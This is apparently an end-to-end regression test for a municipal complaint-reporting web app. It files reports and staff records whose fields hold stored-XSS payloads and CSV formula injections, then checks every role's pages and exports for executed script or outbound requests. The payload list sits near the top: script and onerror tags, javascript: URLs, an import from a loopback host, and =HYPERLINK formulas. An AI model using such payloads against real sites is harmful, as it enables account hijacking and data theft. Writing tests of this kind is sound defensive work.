import { readFile } from 'node:fs/promises';
import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import {
  antSelect,
  apiLogin,
  apiOk,
  DESKTOP,
  loginThroughUi,
  newPage,
  PHONE,
  settle,
  useDemoBrowser,
} from '../support/browser';

/**
 * Issue 11, finding 1, attacked the way it was found: citizens file reports whose description, address and name
 * are XSS payloads (through the public API and through the form), staff name a department, a grid and a
 * community the same way; then every role opens every console page that shows them — worklists, the case list,
 * the case pages, the map's pin and grid tooltips (hovered) and a pin click, the dashboard in every grouping, both
 * CSV exports — and the citizen's own pages. No script may run: no dialog, no request to another origin, no CSP
 * violation (the text must be inert by itself, not only stopped by the CSP); and the text shows literally.
 */

// every payload announces itself through a dialog or a request to 127.0.0.1:3199 / 127.0.0.2 if it ever runs
const REPORTS = [
  {
    description: '<script>alert("xss-desc-1")</script> 路灯不亮',
    address: '<img src=x onerror=alert("xss-addr-1")>',
    name: '<svg onload=alert("xss-name-1")>',
  },
  {
    description: "<img src onerror=import('//127.1:3199')> 井盖缺失",
    address: 'javascript:alert("xss-addr-2")',
    name: '&lt;b&gt;王&lt;/b&gt; &amp;amp;',
  },
  {
    description: '<svg onload=alert("xss-desc-3")><a href="javascript:alert(3)">点我</a> 垃圾',
    address: '&lt;img src=x onerror=alert(4)&gt; &#x3C;script&#x3E;',
    name: '"><img src=x onerror=alert("n3")>',
  },
  {
    description: 'javascript:alert("xss-desc-4") &lt;b&gt;粗&lt;/b&gt; <b>粗</b> <iframe src="http://127.0.0.2:9/">',
    address: '<style>*{display:none}</style><img src="http://127.0.0.2:9/a.png">',
    name: '=HYPERLINK("http://127.0.0.2:9/","x")',
  },
];
/** Filed through the citizen form itself (typed into the fields). */
const FORM_REPORT = {
  description:
    '<img src="http://127.0.0.2:9/x.png" onerror="alert(\'form\')"><script src="//127.1:3199/x.js"></script>',
  address: '<svg><script>alert("form-addr")</script></svg>',
  name: '<img src=x onerror=alert("form-name")>',
};
const DEPARTMENT = '=HYPERLINK("http://127.0.0.2:9/","dept")<img src=x onerror=alert("dept")>';
const GRID = '<img src=x onerror=alert("grid")> 网格 &lt;i&gt;';
const COMMUNITY = '=HYPERLINK("http://127.0.0.2:9/","c")<svg onload=alert("tenant")>';
// a square inside taida's grid 1-1 (bootstrap: 117.714..117.718, 39.031..39.034) for the pins, and one of our own
const PIN_AT = (i: number) => ({ lat: 39.0325, lng: 117.7145 + i * 0.0009 });
const GRID_POLYGON = {
  type: 'Polygon',
  coordinates: [
    [
      [117.7, 39.024],
      [117.706, 39.024],
      [117.706, 39.028],
      [117.7, 39.028],
      [117.7, 39.024],
    ],
  ],
};

interface Watch {
  problems: string[];
  assertClean(where: string): void;
}

/** Record, for every page of the context: dialogs, requests leaving the app's origin, CSP violations. */
function watch(context: BrowserContext, origin: string): Watch {
  const problems: string[] = [];
  const onPage = (page: Page) => {
    page.on('dialog', (dialog) => {
      problems.push(`dialog ${dialog.type()}: ${dialog.message()} on ${page.url()}`);
      void dialog.dismiss();
    });
    page.on('console', (msg) => {
      if (/Content Security Policy/i.test(msg.text())) problems.push(`CSP violation: ${msg.text()} on ${page.url()}`);
    });
    page.on('pageerror', (error) => problems.push(`page error: ${error.message} on ${page.url()}`));
  };
  context.on('page', onPage);
  for (const page of context.pages()) onPage(page);
  context.on('request', (request) => {
    const target = request.url();
    if (/^(data|blob|about):/.test(target)) return;
    if (new URL(target).origin !== origin) problems.push(`request to another origin: ${target}`);
  });
  return {
    problems,
    assertClean(where) {
      expect(problems, `${where}: a payload ran or reached out`).toEqual([]);
    },
  };
}

/** Hover every SVG path of the map and collect what each tooltip says (pins are circles: their path has arcs). */
async function tooltipsOnHover(page: Page, kind: 'pin' | 'grid'): Promise<string[]> {
  const paths = page.locator('[data-testid="grid-map"] path.leaflet-interactive');
  const count = await paths.count();
  const texts: string[] = [];
  for (let i = 0; i < count; i++) {
    const path = paths.nth(i);
    const isPin = /a/i.test((await path.getAttribute('d')) ?? '');
    if (isPin !== (kind === 'pin')) continue;
    // read the open tooltip in one step (the map may redraw between two locator calls); hover again if it closed
    let shown: { text: string; markup: number } | undefined;
    for (let attempt = 1; !shown; attempt++) {
      await path.hover({ force: true });
      const handle = await page
        .waitForFunction(
          () => {
            const tip = [...document.querySelectorAll('.leaflet-tooltip')].pop();
            if (!tip) return undefined;
            // our content is one <span> holding text; any other element is parsed markup
            const span = tip.children.length === 1 && tip.firstElementChild?.tagName === 'SPAN';
            const markup = span ? tip.firstElementChild!.querySelectorAll('*').length : tip.children.length + 1;
            return { text: tip.textContent ?? '', markup };
          },
          undefined,
          { timeout: 5_000 },
        )
        .catch((error) => {
          if (attempt >= 3) throw error;
          return undefined;
        });
      shown = (await handle?.jsonValue()) ?? undefined;
      if (!shown) await page.mouse.move(1, 1);
    }
    texts.push(shown.text);
    // the tooltip's content is one text node in a span, never parsed markup
    expect(shown.markup, shown.text).toBe(0);
    await page.mouse.move(1, 1);
  }
  return texts;
}

/** Open a case page; true when this role may see it (then the texts are checked), false on its "not found". */
async function checkCasePage(page: Page, url: string, id: string, report: (typeof REPORTS)[number]) {
  await page.goto(`${url}/cases/${encodeURIComponent(id)}`);
  const either = page.locator('[data-testid="case-detail"], [data-testid="case-error"]').first();
  await either.waitFor().catch(async (error) => {
    throw new Error(
      `case ${id}: neither the case nor its error at ${page.url()}:\n${await page.locator('body').textContent()}`,
      {
        cause: error,
      },
    );
  });
  const shown = (await either.getAttribute('data-testid')) === 'case-detail';
  if (!shown) return false;
  await settle(page);
  expect(await page.getByTestId('case-description').textContent()).toBe(report.description);
  const detail = (await page.getByTestId('case-detail').textContent()) ?? '';
  expect(detail).toContain(report.address);
  expect(await page.getByTestId('case-reporter').textContent()).toContain(report.name);
  expect(await page.getByTestId('case-detail').locator('img[src="x"], svg[onload], iframe, b, style').count()).toBe(0);
  return true;
}

async function downloadText(page: Page, button: string): Promise<string> {
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId(button).click()]);
  const path = await download.path();
  return readFile(path, 'utf8');
}

describe('stored XSS: payloads from the public form and staff names, shown to every role', () => {
  const env = useDemoBrowser();

  it('runs no script, calls no other origin, and shows every payload as text', { timeout: 600_000 }, async () => {
    const url = env.runtime().url;
    const origin = new URL(url).origin;
    const [admin, dispatcher] = await Promise.all([
      apiLogin(url, 'admin@taida.demo'),
      apiLogin(url, 'dispatcher@taida.demo'),
    ]);

    // --- staff-named things: a department, a grid with a boundary, a community
    const department = await apiOk(url, 'POST', '/api/departments', { name: DEPARTMENT }, admin);
    await apiOk(url, 'POST', '/api/grids', { code: '120116001001009', name: GRID, polygon: GRID_POLYGON }, admin);
    await apiOk(url, 'POST', '/api/tenants', { name: COMMUNITY, slug: 'xss-community', level: 'community' }, admin);

    // --- the citizen form, typed in on a phone
    const citizen = await newPage(env.browser(), PHONE, true);
    const citizenWatch = watch(citizen.context, origin);
    await citizen.page.goto(`${url}/r/taida`);
    await citizen.page.getByTestId('report-form').waitFor();
    await citizen.page.getByTestId('report-description').fill(FORM_REPORT.description);
    await citizen.page.getByTestId('report-address').fill(FORM_REPORT.address);
    await citizen.page.getByTestId('report-contact-name').fill(FORM_REPORT.name);
    await citizen.page.getByTestId('report-contact-phone').fill('13800138000');
    await citizen.page.getByTestId('report-submit').click();
    await citizen.page.getByTestId('report-success').waitFor();
    const formCode = (await citizen.page.getByTestId('report-tracking-code').textContent())?.trim() ?? '';
    expect(formCode).toMatch(/^[0-9A-Z]{5}-[0-9A-Z]{5}$/);
    citizenWatch.assertClean('citizen form');

    // --- the other reports through the public API, pinned inside grid 1-1
    const codes: string[] = [];
    for (const [i, r] of REPORTS.entries()) {
      const filed = await apiOk(url, 'POST', '/public/taida/reports', {
        description: r.description,
        address: r.address,
        location: PIN_AT(i),
        contact: { name: r.name, phone: `1390000000${i}` },
      });
      codes.push(filed.trackingCode);
    }

    // find the cases; push the first through register → dispatch to the payload department (its KPI row)
    const inbox = await apiOk(url, 'GET', '/api/cases?step=reported&limit=100', undefined, dispatcher);
    const ids = REPORTS.map((r) => {
      const found = inbox.items.find((c: { description: string }) => c.description === r.description);
      expect(found, r.description).toBeDefined();
      return found.id as string;
    });
    const formCase = inbox.items.find((c: { description: string }) => c.description === FORM_REPORT.description);
    expect(formCase, 'the form report is in the inbox').toBeDefined();
    await apiOk(url, 'POST', `/api/cases/${ids[0]}/actions/register`, { categoryCode: 'garbage' }, dispatcher);
    await apiOk(url, 'POST', `/api/cases/${ids[0]}/actions/dispatch`, { departmentId: department.id }, dispatcher);
    // the second goes to the demo department user's own department, so that role has a payload case to open
    const departments = await apiOk(url, 'GET', '/api/departments', undefined, dispatcher);
    const cityManagement = (departments.items ?? departments).find((d: { name: string }) =>
      d.name.startsWith('城市管理局'),
    );
    expect(cityManagement, 'the demo department').toBeDefined();
    await apiOk(url, 'POST', `/api/cases/${ids[1]}/actions/register`, { categoryCode: 'garbage' }, dispatcher);
    await apiOk(url, 'POST', `/api/cases/${ids[1]}/actions/dispatch`, { departmentId: cityManagement.id }, dispatcher);

    // --- the citizen's tracking pages for every code
    for (const code of [formCode, ...codes]) {
      await citizen.page.goto(`${url}/r/taida/t/${code}`);
      await citizen.page.getByTestId('track-page').waitFor();
      await citizen.page.waitForLoadState('networkidle');
    }
    citizenWatch.assertClean('citizen tracking pages');
    await citizen.context.close();

    // --- every role, every page that shows the texts
    const roles = [
      { email: 'dispatcher@taida.demo', map: true, dashboard: true },
      { email: 'admin@taida.demo', map: true, dashboard: true, usage: true },
      { email: 'leader@taida.demo', map: true, dashboard: true },
      { email: 'grid@taida.demo', map: true, dashboard: false },
      { email: 'dept@taida.demo', map: true, dashboard: false },
    ];
    const casePagesSeen = new Set<string>();
    for (const role of roles) {
      const { context, page } = await newPage(env.browser(), DESKTOP);
      const w = watch(context, origin);
      await loginThroughUi(page, url, role.email);

      // the workbench: every tab; a card showing a payload shows it as text
      const tabs = await page.locator('[data-testid^="tab-"]').evaluateAll((els) => els.map((e) => e.dataset.testid));
      for (const tab of tabs) {
        await page.getByTestId(tab!).click();
        await settle(page);
        const list = page.getByTestId(`worklist-${tab!.slice(4)}`);
        for (const [i, r] of REPORTS.entries()) {
          const card = list.getByTestId(`case-row-${ids[i]}`);
          if ((await card.count()) > 0) expect(await card.textContent()).toContain(r.description);
        }
      }
      w.assertClean(`${role.email} workbench`);

      // the case list
      await page.getByTestId('nav-cases').click();
      await page.getByTestId('case-table').waitFor();
      await settle(page);
      for (const [i, r] of REPORTS.entries()) {
        const row = page.getByTestId(`case-row-${ids[i]}`);
        if ((await row.count()) > 0) expect(await row.textContent()).toContain(r.description);
      }
      w.assertClean(`${role.email} case list`);

      // each case page this role may open
      for (const [i, r] of REPORTS.entries()) {
        if (await checkCasePage(page, url, ids[i]!, r)) casePagesSeen.add(`${role.email} ${i}`);
      }
      if (await checkCasePage(page, url, formCase.id, FORM_REPORT)) casePagesSeen.add(`${role.email} form`);
      w.assertClean(`${role.email} case pages`);

      // the map: hover every pin and every grid; click a pin
      if (role.map) {
        await page.goto(`${url}/map`);
        await page.getByTestId('grid-map').waitFor();
        await page.locator('[data-testid="grid-map"] path.leaflet-interactive').first().waitFor();
        await settle(page);
        const pins = await tooltipsOnHover(page, 'pin');
        const grids = await tooltipsOnHover(page, 'grid');
        if (role.email === 'dispatcher@taida.demo') {
          for (const r of REPORTS) expect(pins).toContain(r.description.slice(0, 40));
          expect(grids.some((g) => g.startsWith(`${GRID} (120116001001009)`))).toBe(true);
          // a pin click opens its case, which shows the text literally
          const pin = page.locator('[data-testid="grid-map"] path.leaflet-interactive[d*="a"]').first();
          await pin.click({ force: true });
          await page.waitForURL(/\/cases\/[^/]+$/);
          await page.getByTestId('case-detail').waitFor();
          const shown = (await page.getByTestId('case-description').textContent()) ?? '';
          expect([...REPORTS, FORM_REPORT].map((r) => r.description)).toContain(shown);
        }
        w.assertClean(`${role.email} map`);
      }

      // the dashboard in every grouping, and its CSV export
      if (role.dashboard) {
        await page.goto(`${url}/dashboard`);
        await page.getByTestId('kpi-table').waitFor();
        await settle(page);
        for (const group of ['按部门', '按类别', '按网格', '按单位']) {
          await antSelect(page, 'kpi-groupby', group);
          await settle(page);
          if (group === '按部门') {
            const key = page.getByTestId(`kpi-key-${department.id}`);
            await key.waitFor();
            expect(await key.textContent()).toBe(DEPARTMENT);
            const csv = await downloadText(page, 'kpi-export-csv');
            // the department's name is a cell of its own, neutralised: quoted, with a leading '
            expect(csv).toContain(`"'${DEPARTMENT.replace(/"/g, '""')}"`);
            expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
          }
        }
        w.assertClean(`${role.email} dashboard`);
      }

      // the usage page's server-made CSV: the community's formula-looking name is neutralised
      if (role.usage) {
        await page.goto(`${url}/config/usage`);
        await page.getByTestId('usage-csv').waitFor();
        await settle(page);
        const csv = await downloadText(page, 'usage-csv');
        expect(csv).toContain(`"'${COMMUNITY.replace(/"/g, '""')}"`);
        expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
        w.assertClean(`${role.email} usage`);
      }
      await context.close();
    }
    // every role that handles cases saw at least one payload case page (the test looked at something)
    for (const email of ['dispatcher@taida.demo', 'admin@taida.demo', 'leader@taida.demo', 'dept@taida.demo']) {
      expect(
        [...casePagesSeen].some((s) => s.startsWith(email)),
        email,
      ).toBe(true);
    }
  });
});
